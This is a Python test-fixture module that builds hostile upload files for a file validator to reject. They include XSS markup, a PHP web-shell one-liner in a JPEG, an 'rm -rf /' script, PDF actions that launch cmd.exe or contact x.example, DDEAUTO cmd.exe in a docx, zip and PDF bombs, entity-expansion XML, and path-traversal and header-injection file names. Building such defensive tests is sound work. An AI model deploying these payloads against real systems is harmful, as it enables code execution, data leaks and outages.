"""Files made to do harm, or to be taken for something else, built by code."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf

from tests.pictures import picture

from .uploads_good import (
    OPEN,
    add,
    image,
    office_members,
    open_document,
    package,
    pdf,
    relations,
    sheet,
    with_place,
    word,
)

SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
# "clean": taken, with only its pixels left. Otherwise the reason for which it is refused.
CLEAN = "clean"
Hostile = tuple[str, bytes, str]


def pixel_flood(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that says it has very many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    body = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def acting(words: bytes, where: str = "OpenAction") -> bytes:
    """A PDF with an action."""

    def change(document: pikepdf.Pdf) -> None:
        target = document.Root if where == "OpenAction" else document.pages[0].obj
        target[f"/{where}"] = add(document, words)

    return pdf(change)


def annotated(words: bytes) -> bytes:
    """A PDF with something on its page."""

    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Annots = pikepdf.Array([add(document, words)])

    return pdf(change)


def attached(name: str, data: bytes) -> bytes:
    """A PDF with a file in it."""

    def change(document: pikepdf.Pdf) -> None:
        document.attachments[name] = data

    return pdf(change)


def pdf_bomb(times: int) -> bytes:
    """A PDF whose one stream unpacks to a gigabyte, packed as many ``times``."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b"\0" * (1 << 20)) for _ in range(1024)) + packer.flush()
    for _ in range(times - 1):
        data = zlib.compress(data)

    def change(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, b"")
        filters = pikepdf.Array([pikepdf.Name.FlateDecode] * times)
        stream.write(data, filter=filters)
        document.pages[0].Contents = document.make_indirect(stream)

    return pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def deep_pdf(depth: int) -> bytes:
    """A PDF with arrays within arrays."""
    return acting(b"<</S/GoTo/D" + b"[" * depth + b"]" * depth + b">>")


def bomb_members(count: int, size: int) -> dict[str, bytes | str]:
    """Members that unpack to much more than they are."""
    return {f"word/media/{number}.bmp": b"\0" * size for number in range(count)}


def lying_zip() -> bytes:
    """A document with a member that says it is small, and is not."""
    data = bytearray(word(word__big=b"\0" * (64 << 20)))
    true = struct.pack("<I", 64 << 20)
    return bytes(data.replace(true, struct.pack("<I", 10)))


def encrypted_zip() -> bytes:
    """A document whose members say that they are locked."""
    data = bytearray(word())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(mark)
        while start >= 0:
            data[start + place] |= 1
            start = data.find(mark, start + 4)
    return bytes(data)


def twice_the_same_name() -> bytes:
    """A document with two bodies."""
    output = io.BytesIO(word())
    with zipfile.ZipFile(output, "a") as out:
        out.writestr("WORD/document.xml", "<other/>")
    return output.getvalue()


def tar() -> bytes:
    """A tar with a program, packed."""
    output = io.BytesIO()
    with tarfile.open(fileobj=output, mode="w:gz") as out:
        out.addfile(tarfile.TarInfo("../../etc/passwd"), io.BytesIO())
    return output.getvalue()


def images() -> Iterator[Hostile]:
    """Pictures that are more, or less, than pictures."""
    yield "html-efter.png", picture() + HTML, CLEAN
    yield "zip-efter.jpg", image("JPEG") + package({"a.txt": "x"}), CLEAN
    yield "pdf-efter.gif", image("GIF", "P") + pdf(), CLEAN
    yield "php-i-kommentar.jpg", image("JPEG", comment=b"<?php system($_GET[0]); ?>"), CLEAN
    yield "plats.jpg", with_place(), CLEAN
    yield "gif-js.gif", b"GIF89a/*" + b"\0" * 30 + b"*/=1;alert(1)", "broken"
    yield "gif-html.gif", b"GIF89a" + HTML, "broken"
    yield "bara-huvud.png", b"\x89PNG\r\n\x1a\n", "broken"
    yield "halv.png", image("PNG", size=(500, 500))[:900], "broken"
    yield "halv.jpg", image("JPEG", size=(500, 500))[:700], "broken"
    yield "halv.webp", image("WEBP", size=(500, 500))[:100], "broken"
    yield "flod.png", pixel_flood(60_000, 60_000), "pixels"
    yield "flod-2.png", pixel_flood(2**31 - 1, 2**31 - 1), "pixels"
    yield "flod-3.png", pixel_flood(6000, 5000), "pixels"
    yield "tom-yta.png", pixel_flood(0, 0), "broken"
    yield "ljuger.png", pixel_flood(4000, 4000), "broken"
    yield "bitmap.png", image("BMP"), "other_image"
    yield "skannad.jpg", image("TIFF"), "other_image"
    yield "mobil.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 40, "other_image"


def markup() -> Iterator[Hostile]:
    """Texts that a browser would run."""
    yield "skript.svg", SVG, "active"
    yield "skript.png", SVG, "active"
    yield "xml-först.svg", b'<?xml version="1.0"?>\n' + SVG, "active"
    yield "sida.html", HTML, "active"
    yield "sida.txt", b"Hej\n" + HTML, "active"
    yield "sida.pdf", HTML, "active"
    yield "utf16.html", HTML.decode().encode("utf-16"), "unknown"
    yield "utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\0", "unknown"
    yield "php.jpg", b"<?php system($_GET[0]); ?>", "active"
    yield "enhet.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "active"
    yield "länk.txt", b"javascript:alert(1)", "active"
    yield "skal.txt", b"#!/bin/sh\nrm -rf /\n", "program"


def pdfs() -> Iterator[Hostile]:
    """PDFs that act, or that are something else too."""
    js = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    yield "js.pdf", acting(js), "active"
    yield "js-gömt.pdf", acting(b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"), "active"
    yield "js-på-sidan.pdf", acting(b"<</O" + js + b">>", "AA"), "active"
    yield "js-sedan.pdf", acting(b"<</S/GoTo/D[0]/Next" + js + b">>"), "active"
    yield "program.pdf", acting(b"<</S/Launch/F(cmd.exe)>>"), "active"
    yield "skickar.pdf", acting(b"<</S/SubmitForm/F(https://x.example)>>"), "active"
    yield "hämtar.pdf", acting(b"<</S/GoToR/F(\\\\\\\\x.example\\\\a)/D[0/Fit]>>"), "active"
    yield "öppnar-adress.pdf", acting(b"<</S/URI/URI(https://x.example)>>"), "active"
    yield "film.pdf", annotated(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"), "active"
    yield "skärm.pdf", annotated(b"<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]>>"), "active"
    yield "xfa.pdf", acting(b"<</XFA(x)>>", "PieceInfo"), "active"
    yield "exe-i.pdf", attached("faktura.exe", b"MZ" + b"\0" * 200), "attached"
    yield "html-i.pdf", attached("sida.json", HTML), "attached"
    yield "bomb.pdf", pdf_bomb(1), "bomb"
    yield "bomb-2.pdf", pdf_bomb(2), "bomb"
    yield "djup.pdf", deep_pdf(400), "heavy"
    yield "låst.pdf", pdf(encryption=pikepdf.Encryption(owner="x", user="y")), "locked"
    yield "halv.pdf", pdf()[:300], "broken"
    yield "utan-slut.pdf", b"%PDF-1.7\n" + b"x" * 500, "broken"
    yield "bara-huvud.pdf", b"%PDF-1.7\n%%EOF\n", "broken"
    yield "zip-efter.pdf", pdf() + package({"a.class": "x"}), "polyglot"
    yield "html-efter.pdf", pdf() + HTML, "polyglot"
    yield "html-före.pdf", HTML + pdf(), "unknown"
    yield "zip-före.pdf", package({"a.txt": "x"}) + pdf(), "archive"


def packages() -> Iterator[Hostile]:
    """Documents with programs in them, bombs, and archives that are no documents."""
    members = office_members("wordprocessingml.document", "word/document.xml")
    yield "makro.docx", word(word__vbaProject="x"), "macros"
    enabled = str(members["[Content_Types].xml"]).replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
    )
    yield "makro.docm", package(members | {"[Content_Types].xml": enabled}), "macros"
    yield "activex.docx", package(members | {"word/activeX/activeX1.xml": "<x/>"}), "macros"
    yield "ole.docx", package(members | {"word/embeddings/oleObject1.bin": "x"}), "macros"
    yield (
        "ole-2.docx",
        package(members | {"word/a.dat": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        "macros",
    )
    dde = "<w:p><w:instrText>DDEAUTO cmd.exe</w:instrText></w:p>"
    yield "dde.docx", package(members | {"word/document.xml": dde}), "macros"
    laugh = '<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>'
    yield "skratt.docx", package(members | {"word/document.xml": laugh}), "macros"
    far = relations("attachedTemplate", "https://x.example/mall.dotm")
    yield "mall.docx", package(members | {"word/_rels/settings.xml.rels": far}), "outside"
    far = relations("image", "file://x.example/a.png")
    yield "bild-utifrån.docx", package(members | {"word/_rels/document.xml.rels": far}), "outside"
    yield "bomb.docx", package(members | bomb_members(8, 40 << 20)), "bomb"
    yield "bomb-2.docx", package(members | {"word/media/0.bmp": b"\0" * (150 << 20)}), "bomb"
    yield "ljuger.docx", lying_zip(), "broken"
    many: dict[str, bytes | str] = {f"word/{number}.xml": "" for number in range(5000)}
    yield "många.docx", package(members | many), "bomb"
    inner = package({"b.docx": package(members), "a": "x"})
    yield "packad.docx", package(members | {"word/embeddings/a.zip": inner}), "nested"
    held = package(members | {"word/embeddings/b.docx": package(members)})
    yield "docka.docx", package(members | {"word/embeddings/a.docx": held}), "nested"
    yield "packad-2.docx", package(members | {"word/a.bin": gzip.compress(b"x")}), "nested"
    yield "program.docx", package(members | {"word/media/a.png": b"MZ" + b"\0" * 99}), "nested"
    yield "väg.docx", package(members | {"../../etc/cron.d/x": "x"}), "broken"
    yield "väg-2.docx", package(members | {"/etc/passwd": "x"}), "broken"
    yield "styrtecken.docx", package(members | {"word/a\x07b.xml": "x"}), "broken"
    yield "låst.docx", encrypted_zip(), "locked"
    yield "dubbel.docx", twice_the_same_name(), "broken"
    yield "före.docx", b"PK\x03\x04" + b"x" * 60 + word(), "polyglot"
    yield "halv.docx", word()[:200], "broken"
    yield "makro.odt", open_document("text", Basic__Standard__a="x"), "macros"
    event = '<script:event-listener xlink:href="vnd.sun.star.script:a"/>'
    yield "händelse.odt", package({"mimetype": OPEN + "text", "content.xml": event}), "macros"
    yield "zip.docx", package({"a.txt": "x"}), "archive"
    yield "tom-zip.docx", package({}), "archive"
    yield "kalkyl.zip", package({"tabell.xlsx": sheet()}), "nested"


def others() -> Iterator[Hostile]:
    """What is neither."""
    yield "tom.pdf", b"", "empty"
    yield "faktura.pdf", b"MZ\x90\0" + b"\0" * 200, "program"
    yield "program.jpg", b"\x7fELF" + b"\0" * 200, "program"
    yield "gammal.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"
    yield "rik.rtf", b"{\\rtf1 {\\object\\objocx}}", "old_office"
    yield "arkiv.tgz", tar(), "archive"
    yield "film.mp4", b"\0\0\0\x18ftypmp42" + b"\0" * 40, "film"
    yield "brus.bin", bytes(range(256)) * 4, "unknown"
    yield "nollor.txt", b"\0" * 5000, "unknown"


NAMES = (
    "../../../etc/passwd.png",
    "..\\..\\windows\\system32\\a.png",
    "/etc/passwd",
    "a\x00b.png",
    "rad\r\nSet-Cookie: a=b.png",
    "\u202egnp.exe",
    "å" * 300 + ".png",
    "x" * 300,
    ".htaccess",
    "CON",
    '"><script>alert(1)</script>.png',
    "a.png;.html",
    "foto.php.jpg",
    " ",
)


def hostile() -> list[Hostile]:
    """(name, bytes, the reason that it is refused for, or "clean")."""
    return [*images(), *markup(), *pdfs(), *packages(), *others()]


def forms(field: str, name: str, data: bytes) -> tuple[bytes, str]:
    """A form as a browser posts it, its file called ``name`` to the letter: (body, type)."""
    line = b"--grans"
    head = f'Content-Disposition: form-data; name="{field}"; filename="{name}"'.encode()
    body = (
        line
        + b"\r\n"
        + head
        + b"\r\nContent-Type: text/html\r\n\r\n"
        + data
        + b"\r\n"
        + line
        + b"--\r\n"
    )
    return body, "multipart/form-data; boundary=grans"
